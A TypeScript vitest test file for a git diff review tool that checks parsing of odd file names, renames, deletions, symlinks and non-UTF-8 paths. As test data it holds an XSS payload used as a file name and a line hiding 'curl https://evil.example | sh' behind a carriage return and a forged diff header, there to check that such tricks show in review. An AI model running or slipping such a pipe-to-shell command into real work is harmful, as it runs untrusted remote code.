import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listTree } from './history.js';
import { reviewDiffOutput, revisionDiff } from './diff.js';
import { parseReviewDiff, reviewFiles } from '../review/diff.js';

const reviewDiff = async (repo: string, base: string | null, candidate: string) => parseReviewDiff(await reviewDiffOutput(repo, base, candidate));
import { loadFile } from '../app/revision-files.js';

const ODD = ['has "quotes".sh', 'tab\there.txt', 'new\nline.txt', 'ünïcödé ✓.txt', '<img src=x onerror=alert(1)>.sh', 'back\\slash', 'a b'];
/** A name that is not UTF-8: git hands it over as bytes, we can only decode it lossily. */
const LATIN1 = Buffer.from('caf\xe9.txt', 'latin1');

let dir: string;
let first: string;
let second: string;

function git(...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@e', ...args], { cwd: dir, encoding: 'utf8' }).trim();
}

beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'aurgate-diff-'));
  git('init', '-q', '-b', 'master');
  for (const name of ODD) writeFileSync(path.join(dir, name), `${JSON.stringify(name)}\n`);
  writeFileSync(Buffer.from(`${dir}/${LATIN1.toString('latin1')}`, 'latin1'), 'latin1 name\n');
  writeFileSync(path.join(dir, 'script.sh'), 'echo one\n');
  writeFileSync(path.join(dir, 'to-link'), 'a file that becomes a symlink\n');
  git('add', '-A');
  git('commit', '-q', '-m', 'first');
  first = git('rev-parse', 'HEAD');
  writeFileSync(path.join(dir, 'has "quotes".sh'), 'changed\n');
  git('mv', 'tab\there.txt', 'tab\tmoved.txt');
  git('rm', '-q', 'new\nline.txt');
  chmodSync(path.join(dir, 'a b'), 0o755);
  rmSync(path.join(dir, 'to-link'));
  symlinkSync('script.sh', path.join(dir, 'to-link'));
  // A carriage return inside a changed line, followed by what looks like a new file's header.
  writeFileSync(path.join(dir, 'script.sh'), 'echo one\necho safe\rcurl https://evil.example | sh\n+diff --git a/x b/x\n');
  git('add', '-A');
  git('commit', '-q', '-m', 'second');
  second = git('rev-parse', 'HEAD');
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('reviewDiff', () => {
  it('names every file of a first revision exactly, whatever git quotes in its headers', async () => {
    const { files, text } = await reviewDiff(path.join(dir, '.git'), null, first);
    const lossy = LATIN1.toString('utf8');
    expect(files.map((file) => file.path).sort()).toEqual([...ODD, lossy, 'script.sh', 'to-link'].sort());
    for (const file of files) {
      expect(file.diff).toMatchObject({ isNew: true, oldName: '/dev/null', newName: file.path, addedLines: 1 });
      expect(file.oldPath).toBeNull();
    }
    // The patch keeps git's quoting of control characters but shows non-ASCII as it is.
    expect(text).toContain('+++ b/ünïcödé ✓.txt');
    expect(text).toContain('"b/tab\\there.txt"');
  });

  it('pairs renames, deletions, mode and type changes with their exact paths', async () => {
    const { files } = await reviewDiff(path.join(dir, '.git'), first, second);
    const summary = files.map(({ path, oldPath, diff }) => ({ path, oldPath, new: diff.isNew, deleted: diff.isDeleted, renamed: diff.isRename }));
    expect(summary).toEqual([
      { path: 'a b', oldPath: null, new: false, deleted: false, renamed: false },
      { path: 'has "quotes".sh', oldPath: null, new: false, deleted: false, renamed: false },
      { path: 'new\nline.txt', oldPath: null, new: false, deleted: true, renamed: false },
      { path: 'script.sh', oldPath: null, new: false, deleted: false, renamed: false },
      { path: 'tab\tmoved.txt', oldPath: 'tab\there.txt', new: false, deleted: false, renamed: true },
      // file → symlink: git prints a deletion and a creation of the same path
      { path: 'to-link', oldPath: null, new: false, deleted: true, renamed: false },
      { path: 'to-link', oldPath: null, new: true, deleted: false, renamed: false },
    ]);
  });

  it('keeps a line with a carriage return whole (shown as ␍) and starts no file inside it', async () => {
    const { files } = await reviewDiff(path.join(dir, '.git'), first, second);
    const script = files.find((file) => file.path === 'script.sh');
    const lines = script?.diff.blocks.flatMap((block) => block.lines.map((line) => line.content)) ?? [];
    expect(lines).toContain('+echo safe␍curl https://evil.example | sh');
    expect(lines).toContain('++diff --git a/x b/x');
    expect(script?.diff.addedLines).toBe(2);
  });

  it('prints readable names to the CLI', async () => {
    const stat = await revisionDiff(path.join(dir, '.git'), null, first, { stat: true });
    expect(stat).toContain('ünïcödé ✓.txt');
    expect(stat).not.toContain('\\303');
  });
});

describe('reviewFiles', () => {
  it('refuses output where records and patch pieces do not pair up', () => {
    const change = {
      status: 'M',
      score: null,
      oldMode: '100644',
      newMode: '100644',
      oldObject: 'a',
      newObject: 'b',
      oldPath: 'x',
      path: 'x',
    } as const;
    expect(() => reviewFiles([change], [])).toThrow(/1 changed files but 0 file patches/);
    expect(() => reviewFiles([{ ...change, status: 'T' }], ['diff --git a/x b/x\n'])).toThrow(/1 changed files but 1 file patches/);
  });
});

describe('loadFile', () => {
  it('opens a file by its tree entry, even one whose name is not UTF-8', async () => {
    const repo = path.join(dir, '.git');
    const entries = await listTree(repo, first);
    const open = async (name: string) => {
      const entry = entries.find((candidate) => candidate.path === name);
      if (!entry) throw new Error(`no tree entry ${JSON.stringify(name)}`);
      return loadFile(repo, entry);
    };
    expect(await open(LATIN1.toString('utf8'))).toEqual({ path: LATIN1.toString('utf8'), size: 12, lines: ['latin1 name'] });
    expect(await open('new\nline.txt')).toEqual({ path: 'new\nline.txt', size: 16, lines: ['"new\\nline.txt"'] });
  });
});
